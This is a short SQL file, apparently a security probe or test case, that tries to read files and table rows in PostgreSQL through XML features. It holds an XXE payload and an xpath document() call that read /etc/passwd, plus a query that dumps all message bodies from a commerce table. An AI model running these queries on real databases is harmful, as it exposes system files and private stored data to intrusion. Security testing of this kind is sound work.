-- Reads files and rows through XML entities and xpath.
-- volatile: XML of all rows is one value, in the order of the heap
SELECT xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>');
SELECT xpath('document("file:///etc/passwd")', '<a/>');
SELECT xpath('//row/body/text()', query_to_xml('SELECT body FROM commerce.message', true, false, ''));
